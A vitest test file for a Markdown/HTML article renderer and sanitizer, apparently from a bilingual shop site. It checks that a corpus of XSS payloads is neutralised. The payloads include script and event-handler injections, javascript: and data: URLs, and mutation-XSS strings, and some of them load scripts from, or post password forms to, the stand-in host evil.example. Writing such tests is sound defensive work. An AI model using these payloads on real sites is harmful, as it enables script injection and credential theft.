import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { renderArticle } from "./render-article.ts";
import { sanitizeArticle } from "./sanitize-article.ts";

/** Markdown or HTML that runs, frames or styles something, or links to a script. */
const corpus = [
  `<script>ran()</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="ran()">`,
  `<img src="/media/catalog/a/320.webp" onload=ran()>`,
  `<svg/onload=ran()><animate onbegin=ran() attributeName=x></svg>`,
  `<svg><a xlink:href="javascript:ran()"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">`,
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
  `<object data="data:text/html,<script>ran()</script>"></object><embed src="javascript:ran()">`,
  `<a href="javascript:ran()">x</a>`,
  `<a href=" java\nscript:ran()">x</a>`,
  `<a href="JaVaScRiPt&#58;ran()">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:ran()">x</a>`,
  `<a href="//evil.example">x</a>`,
  `[x](javascript:ran())`,
  `[x](data:text/html,<script>ran()</script>)`,
  `<details open ontoggle=ran()>x</details>`,
  `<p style="background:url(javascript:ran())">x</p>`,
  `<style>*{background:url(//evil.example)}</style>`,
  `<form action="https://evil.example"><input name=password><button>ok</button></form>`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<h2 id="root" onclick=ran()>x</h2><h2 id="__proto__">x</h2>`,
  `<template><script>ran()</script></template><noscript><p title="</noscript><img src=x onerror=ran()>">`,
  `<img src="https://evil.example/pixel.png"><img srcset="https://evil.example/a.webp 1x" src="/media/catalog/a/320.webp">`,
  `<picture><source srcset="https://evil.example/a.avif"><img src="/media/catalog/a/320.webp"></picture>`,
  `"><img src=x onerror=ran()>`,
  `<video src=x onerror=ran() autoplay></video><audio src=x onerror=ran()></audio>`,
  `<button popovertarget=x onclick=ran()>x</button><x-custom onfocus=ran() autofocus tabindex=1>x</x-custom>`,
];

/** Elements, attributes and URLs that an article must not contain. */
const FORBIDDEN = [
  /<(?!\/?(?:h[234]|p|ul|ol|li|strong|em|s|code|pre|blockquote|a|hr|br|table|thead|tbody|tr|th|td|figure|figcaption|picture|source|img)[\s>/])/i,
  /<[^>]*\son[a-z]+\s*=/i,
  /<[^>]*\sstyle\s*=/i,
  /<[^>]*(?:href|src|srcset)\s*=\s*"\s*(?:javascript|data|vbscript|\/\/)/i,
  /<(?:img|source)[^>]*evil\.example/i,
];

describe("the HTML of an article", () => {
  it.each(corpus)("contains nothing that can run, be framed or load from elsewhere: %s", (bad) => {
    const { html } = renderArticle(`Trước\n\n${bad}\n\nSau`, "vi");
    for (const shown of [html, sanitizeArticle(bad), sanitizeArticle(html)]) {
      for (const pattern of FORBIDDEN) expect(shown).not.toMatch(pattern);
    }
  });

  it("does not change when sanitized again", () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...corpus), fc.string()), { maxLength: 4 }), (parts) => {
        const once = sanitizeArticle(parts.join(" "));
        expect(sanitizeArticle(once)).toBe(once);
      }),
    );
  });

  it("keeps Markdown formatting and gives equal headings distinct ids", () => {
    const { html, headings } = renderArticle(
      "## Giặt & phơi\n\n**Nhẹ** và *mát*, `30 °C`.\n\n1. Một\n2. Hai\n\n> Trích\n\n| A | B |\n| --- | --- |\n| 1 | 2 |\n\n## Giặt & phơi",
      "vi",
    );
    expect(headings).toEqual([
      { id: "giat-phoi", text: "Giặt & phơi" },
      { id: "giat-phoi-2", text: "Giặt & phơi" },
    ]);
    for (const part of [
      "<strong>Nhẹ</strong>",
      "<em>mát</em>",
      "<ol>",
      "<blockquote>",
      "<table>",
      "<code>",
    ]) {
      expect(html).toContain(part);
    }
  });

  it("localizes internal links and marks external ones noopener noreferrer", () => {
    const source = "[a](/policy/returns) [b](https://example.com/x) [c](mailto:hotro@sen.example)";
    expect(renderArticle(source, "en").html).toBe(
      `<p><a href="/en/policy/returns">a</a> <a href="https://example.com/x" rel="noopener noreferrer">b</a> <a href="mailto:hotro@sen.example">c</a></p>\n`.trimEnd(),
    );
    expect(renderArticle(source, "vi").html).toContain(`href="/policy/returns"`);
  });

  it("shows a picture in all its widths, with alt text and caption", () => {
    const { html, pictures } = renderArticle('![Áo & quần](/media/catalog/0123456789abcd "Hai món")', "vi");
    expect(html).toMatch(
      /^<figure><picture><source type="image\/avif" srcset="\/media\/catalog\/0123456789abcd\/160\.avif 160w, /,
    );
    expect(html).toContain(`alt="Áo &amp; quần" width="1280" height="720" loading="lazy"`);
    expect(html).toContain("<figcaption>Hai món</figcaption>");
    expect(html).not.toContain("<p>");
    expect(pictures).toEqual([{ href: "/media/catalog/0123456789abcd", text: "Áo & quần" }]);
  });
});
